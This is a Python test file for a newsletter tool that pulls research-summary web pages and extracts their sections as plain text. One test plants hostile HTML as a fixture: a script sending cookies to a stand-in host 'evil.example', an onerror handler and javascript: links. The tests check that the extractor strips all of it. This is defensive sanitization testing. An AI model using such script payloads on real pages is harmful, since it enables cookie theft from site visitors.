"""`summaries pull`, the pages: sections found by their headings, plain text only (no scripts,
no URLs but the paper's and the canonical one, both http(s)), and a page without every part
reported, not written."""
# Not both_engines: pages to summary files, no database.

from __future__ import annotations

import datetime as dt

from newsletter.config import PageLabels
from newsletter.pull.extract import extract_fragment, extract_page
from tests.pull_helpers import (
    REPO,
    actions,
    configure,
    original,
    pull,
    summary_files,
    without_source,
)

ALL = sorted(p.stem for p in (REPO / "summaries").glob("*.yaml"))
SLUG = "oct-optic-neuritis"
LABELS = PageLabels()


def _serve_page(site, html: str, slug: str = SLUG) -> None:
    site.answer(f"/summaries/{slug}", body=html)


def test_script_style_and_javascript_links_in_a_section_leave_only_text(
    example_site, workspace, run
):
    configure(workspace, example_site)
    html = example_site.page(SLUG)
    hostile = (
        '<script>document.location="https://evil.example/?c="+document.cookie</script>'
        "<style>p { display: none }</style>"
        '<img src="x" onerror="alert(1)" alt="an image">'
        '<a href="javascript:alert(2)" onclick="steal()">Compare the scans</a>'
        "<!-- an editor's note -->"
        "<noscript>Turn on scripts</noscript> "
    )
    html = html.replace(
        "<h2>What the study found</h2><p>", "<h2>What the study found</h2><p>" + hostile
    )
    html = html.replace(
        'href="https://doi.org/10.5555/example.2026.063"', 'href="javascript:alert(3)"'
    )
    _serve_page(example_site, html)
    result = run("summaries", "pull")
    assert result.exit_code == 0, result.stderr
    text = summary_files(workspace)[f"{SLUG}.yaml"]
    findings = without_source(text)["findings"]
    assert findings == "Compare the scans " + original(SLUG)["findings"]
    for leftover in (
        "script",
        "evil",
        "cookie",
        "alert",
        "javascript",
        "onerror",
        "display",
        "an image",
        "editor's note",
        "Turn on scripts",
    ):
        assert leftover not in text, leftover
    assert "<" not in findings and ">" not in findings
    # The refused paper link leaves the summary without one, and says so.
    assert "source_url" not in without_source(text)
    assert (
        "original paper link refused: 'javascript:alert(3)' is not an http(s) URL" in result.stdout
    )


def test_a_page_with_a_section_missing_is_reported_and_not_written(example_site, workspace, run):
    configure(workspace, example_site)
    html = example_site.page(SLUG)
    start = html.index('<section class="tab"><h2>Limitations</h2>')
    end = html.index("</section>", start) + len("</section>")
    _serve_page(example_site, html[:start] + html[end:])
    result = run("summaries", "pull")
    assert result.exit_code == 1
    assert result.stderr == f"error: {example_site.link(SLUG)}: no 'Limitations' section\n"
    files = summary_files(workspace)
    assert f"{SLUG}.yaml" not in files
    assert len(files) == len(ALL) - 1
    assert not list((workspace / "summaries").glob(".*"))  # no temporary file left either


def test_a_page_that_is_not_a_summary_lists_everything_missing(example_site, workspace):
    settings = configure(workspace, example_site)
    _serve_page(
        example_site, "<html><body><h1>Page moved</h1><p>See the new site.</p></body></html>"
    )
    report = pull(settings)
    assert [i.reason for i in report.failed] == [
        "no 'What the study found' section; no 'Why it matters' section; "
        "no 'Limitations' section; no journal (no 'Journal' in the page's details)"
    ]


def test_an_empty_section_is_missing(example_site, workspace):
    settings = configure(workspace, example_site)
    html = example_site.page(SLUG)
    start = html.index("<h2>Why it matters</h2><p>") + len("<h2>Why it matters</h2><p>")
    end = html.index("</p>", start)
    _serve_page(example_site, html[:start] + "   " + html[end:])
    report = pull(settings)
    assert [i.reason for i in report.failed] == ["no 'Why it matters' section"]


def test_relative_urls_are_resolved_against_the_page(example_site, workspace):
    settings = configure(workspace, example_site)
    html = example_site.page(SLUG)
    html = html.replace(
        'href="https://doi.org/10.5555/example.2026.063"', 'href="../papers/oct.pdf"'
    )
    html = html.replace(
        'rel="canonical" href="https://ms-research.example.org/summaries/oct-optic-neuritis"',
        'rel="canonical" href="/summaries/oct-optic-neuritis"',
    )
    _serve_page(example_site, html)
    report = pull(settings)
    assert not report.failed
    data = without_source(summary_files(workspace)[f"{SLUG}.yaml"])
    assert data["source_url"] == f"{example_site.url}/papers/oct.pdf"
    assert data["url"] == f"{example_site.url}/summaries/{SLUG}"


def test_section_labels_come_from_the_settings(example_site, workspace):
    renamed = {
        "What the study found": "Key findings",
        "Why it matters": "Why this matters to you",
        "Limitations": "Things to keep in mind",
        "<dt>Journal</dt>": "<dt>Published in</dt>",
    }
    html = example_site.page(SLUG)
    for old, new in renamed.items():
        html = html.replace(old, new)
    _serve_page(example_site, html)
    settings = configure(workspace, example_site)
    report = pull(settings)
    assert [i.summary_id for i in report.failed] == [SLUG]
    labels = {
        "findings": "key findings",  # matched ignoring case
        "why_it_matters": "Why this matters to you:",  # and a trailing colon
        "limitations": "Things to keep in mind",
        "journal": "Published in",
    }
    settings = configure(workspace, example_site, clear=False, labels=labels)
    report = pull(settings)
    assert not report.failed
    assert actions(report)["new"] == [SLUG]
    assert without_source(summary_files(workspace)[f"{SLUG}.yaml"]) == original(SLUG)


# The extractor on other page structures ----------------------------------------------------------


FLAT = """<!doctype html><html><head><title>Site | T</title>
<meta name="citation_journal_title" content="Brain">
<meta name="citation_doi" content="doi:10.1234/abc">
<meta name="citation_publication_date" content="2026/03/01">
</head><body>
<div class="content">
<h1>A <em>short</em> title</h1>
<p>The headline &amp; its <b>key</b> finding.</p>
<h3>WHAT THE STUDY FOUND:</h3>
<p>First paragraph.</p><p>Second<br>line.</p>
<ul><li>one</li><li>two</li></ul>
<div class="tab-head"><h3>Why it matters</h3></div>
<div class="tab-body"><p>Because.</p></div>
<p><strong>Limitations</strong></p>
<p>Small study.</p>
<hr>
<p>Share this page</p>
</div></body></html>"""


def test_sections_as_siblings_wrappers_and_bold_labels_with_citation_meta_fallbacks():
    found = extract_page(FLAT, "https://site.example/s/x", LABELS)
    assert found.missing(LABELS) == []
    assert found.title == "A short title"
    assert found.headline == "The headline & its key finding."
    assert found.findings == "First paragraph. Second line. one two"
    assert found.why_it_matters == "Because."
    assert found.limitations == "Small study."  # stops at the <hr>, not at "Share this page"
    assert found.journal == "Brain"
    assert found.source_url == "https://doi.org/10.1234/abc"
    assert found.date == dt.date(2026, 3, 1)
    assert found.canonical_url is None


def test_details_in_a_table_and_after_a_bold_label_and_a_us_date():
    html = FLAT.replace(
        "<hr>",
        "<table><tr><th>Original paper</th><td><a href='/p/1'>paper</a></td></tr></table>"
        "<p><b>Journal:</b> Neurology</p><p>Published <time>3/14/2026</time></p>",
    )
    found = extract_page(html, "https://site.example/s/x", LABELS)
    assert found.journal == "Neurology"
    assert found.source_url == "https://site.example/p/1"
    assert found.date == dt.date(2026, 3, 14)


def test_a_fragment_without_a_journal_is_incomplete():
    fragment = "<p>Head.</p><h2>What the study found</h2><p>F</p><h2>Why it matters</h2><p>W</p><h2>Limitations</h2><p>L</p>"
    found = extract_fragment(fragment, "https://site.example/s/x", LABELS)
    assert (found.headline, found.findings, found.why_it_matters, found.limitations) == (
        "Head.",
        "F",
        "W",
        "L",
    )
    assert found.missing(LABELS) == ["no journal (no 'Journal' in the page's details)"]


def test_control_and_invisible_characters_are_dropped():
    html = FLAT.replace("First paragraph.", "First\u202e para\x07graph.\u200b")
    found = extract_page(html, "https://site.example/s/x", LABELS)
    assert found.findings.startswith("First paragraph. Second")
